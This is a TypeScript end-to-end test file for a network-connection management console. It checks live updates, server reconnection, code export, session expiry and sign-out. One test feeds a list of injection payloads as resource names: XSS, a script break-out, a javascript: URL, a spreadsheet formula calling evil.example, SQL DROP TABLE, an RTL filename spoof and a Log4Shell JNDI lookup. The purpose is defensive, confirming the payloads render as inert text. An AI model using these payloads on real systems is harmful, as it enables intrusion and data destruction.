// The console while others act: live updates under a typing hand, a server that is not heard for a
// while, names that were typed to do harm, and the end of a session.
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { findings } from './support/axe.ts'
import { chromiumPath } from './support/browser.ts'
import { blueId, partnerId, until } from './support/house.ts'
import { scene, type Scene } from './support/scene.ts'

const hostile = [
  '<img src=x onerror="globalThis.harmed=1">',
  '</script><script>globalThis.harmed=1</script>',
  'javascript:globalThis.harmed=1',
  '=HYPERLINK("http://evil.example","x")',
  "'; DROP TABLE connections; --",
  '\u202Egnp.exe',
  '${jndi:ldap://evil.example}',
  `a very long name ${'x'.repeat(80)}`,
]

describe.skipIf(chromiumPath === undefined)('the console while others act', () => {
  let at: Scene
  beforeAll(async () => {
    at = await scene()
  })
  afterAll(async () => {
    await at?.[Symbol.asyncDispose]()
  })

  const settled = async () => {
    await at.page.locator('[class*="awsui_spinner"]').first().waitFor({ state: 'detached' })
  }

  it('updates by itself while another client changes things, and keeps what is being typed', async () => {
    const { house, made, desk, page } = at
    const blue = house.as(blueId)
    await desk.go('/connections')
    await page.getByRole('row', { name: /Ashburn north/ }).waitFor()
    await blue.createConnection({ connectionName: 'Made elsewhere', bandwidth: '1Gbps', location: 'EqDC2' })
    await page.getByRole('row', { name: /Made elsewhere.*Available/ }).waitFor()

    await desk.go(`/create-virtual-interface?connection=${made.connectionId}`)
    const name = page.getByLabel('Virtual interface name', { exact: true })
    const vlan = page.getByLabel('VLAN', { exact: true })
    await name.fill('Being typed')
    await vlan.fill('901')
    await vlan.blur()
    await name.focus()
    await blue.createPrivateVirtualInterface({
      connectionId: made.connectionId,
      newPrivateVirtualInterface: { virtualInterfaceName: 'Quicker', vlan: 901, asn: 65_009, directConnectGatewayId: made.gatewayId },
    })
    // The other's interface shows as a taken VLAN, and nothing that was typed is lost.
    await page.getByText(/VLAN 901 is taken by Quicker/).waitFor()
    expect(await name.inputValue()).toBe('Being typed')
    expect(await page.evaluate('document.activeElement.value')).toBe('Being typed')
  })

  it('says when it no longer hears the server, and catches up when it does again', async () => {
    const { house, desk, page } = at
    await desk.go('/connections')
    await page.route('**/console/events**', (route) => route.abort())
    await page.reload()
    await page.getByRole('button', { name: 'Live updates interrupted' }).waitFor()
    await house.as(blueId).createConnection({ connectionName: 'Missed meanwhile', bandwidth: '1Gbps', location: 'EqDC2' })
    await page.unroute('**/console/events**')
    await page.getByRole('button', { name: 'Live', exact: true }).waitFor()
    await page.getByRole('row', { name: /Missed meanwhile/ }).waitFor()
    expect(desk.complaints).toEqual([])
  })

  it('says as code what it shows, and what was just done', async () => {
    const { made, desk, page } = at
    await desk.go(`/connections/${made.connectionId}`)
    await page.getByRole('button', { name: 'Show as code' }).first().click()
    await page.getByText(`--connection-id ${made.connectionId}`).first().waitFor()
    await page.getByRole('tab', { name: 'Terraform' }).click()
    await page.getByText(`id = "${made.connectionId}"`).first().waitFor()
    await page.getByRole('button', { name: 'Hide code' }).click()
    expect(desk.complaints).toEqual([])
  })

  it('shows names and tags that were typed to do harm as the text they are', async () => {
    const { house, made, desk, page } = at
    const blue = house.as(blueId)
    const places: string[] = []
    for (const [index, connectionName] of hostile.entries()) {
      const { connectionId } = await blue.createConnection({
        connectionName,
        bandwidth: '1Gbps',
        location: 'EqDC2',
        tags: [{ key: `k${index}`, value: 'https://evil.example/=+-@' }],
      })
      places.push(`/connections/${connectionId}`)
    }
    const { directConnectGateway } = await blue.createDirectConnectGateway({ directConnectGatewayName: hostile[0] })
    const vi = await blue.createPrivateVirtualInterface({
      connectionId: made.connectionId,
      newPrivateVirtualInterface: {
        virtualInterfaceName: hostile[1],
        vlan: 999,
        asn: 65_005,
        directConnectGatewayId: directConnectGateway?.directConnectGatewayId,
      },
    })
    const handed = await house.as(partnerId).allocateHostedConnection({
      connectionId: made.interconnectId,
      ownerAccount: blueId,
      bandwidth: '50Mbps',
      connectionName: hostile[0],
      vlan: 999,
    })
    places.push(
      '/connections',
      '/virtual-interfaces',
      `/virtual-interfaces/${vi.virtualInterfaceId}`,
      `/gateways/${directConnectGateway?.directConnectGatewayId}`,
      '/gateways',
      '/inbox',
      '/topology',
      `/connections/${handed.connectionId}`,
      `/connections/${made.connectionId}?tab=vlans`,
      `/create-virtual-interface`,
    )
    for (const path of places) {
      await desk.go(path)
      await settled()
    }
    await desk.go('/connections')
    await page
      .getByRole('link', { name: hostile[0] ?? '', exact: true })
      .first()
      .waitFor()
    expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false)
    expect(await page.locator('img[src="x"]').count()).toBe(0)

    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save as CSV' }).click()])
    const csv = readFileSync(await file.path(), 'utf8')
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`)
    expect(csv).not.toMatch(/(^|,)"[=+\-@]/m)
  })

  it('asks nothing of any other host', async () => {
    const { house, made, desk, page } = at
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(house.sandbox.endpoint) && !request.url().startsWith('blob:')) foreign.push(request.url())
    })
    for (const path of ['/topology', '/locations', `/virtual-interfaces/${made.privateId}`]) await desk.go(path)
    expect(foreign).toEqual([])
  })

  it('gave the browser no reason to complain', () => {
    const { desk } = at
    expect(desk.complaints).toEqual([])
  })

  it('ends with signing out, and a session that ended leads to the door with what happened', async () => {
    const { house, desk, page, context } = at
    await desk.go('/connections')
    // As if it had expired: the cookie is gone, the page is still open.
    await context.clearCookies()
    await house.as(blueId).createConnection({ connectionName: 'After the end', bandwidth: '1Gbps', location: 'EqDC2' })
    await page.getByText('You are signed out, or your session ended.').waitFor()
    expect(await findings(page)).toEqual([])

    await page.goto(house.sandbox.newConsoleUrl() ?? '')
    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
    await page.getByRole('button', { name: /^Account / }).click()
    await page.getByRole('menuitem', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.reload()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    const cookies = await context.cookies()
    expect(cookies.filter(({ value }) => value !== '')).toEqual([])
  })

  it('opens a link only once, and says so', async () => {
    const { house, page, context } = at
    const link = house.sandbox.newConsoleUrl() ?? ''
    await page.goto(link)
    await page.getByRole('heading', { level: 1, name: 'Connections' }).waitFor()
    await context.clearCookies()
    await page.goto(link)
    await page.getByText('This link was used already').waitFor()
    expect(await until('the page is there', async () => page.title())).toContain('Demarc')
  })
})
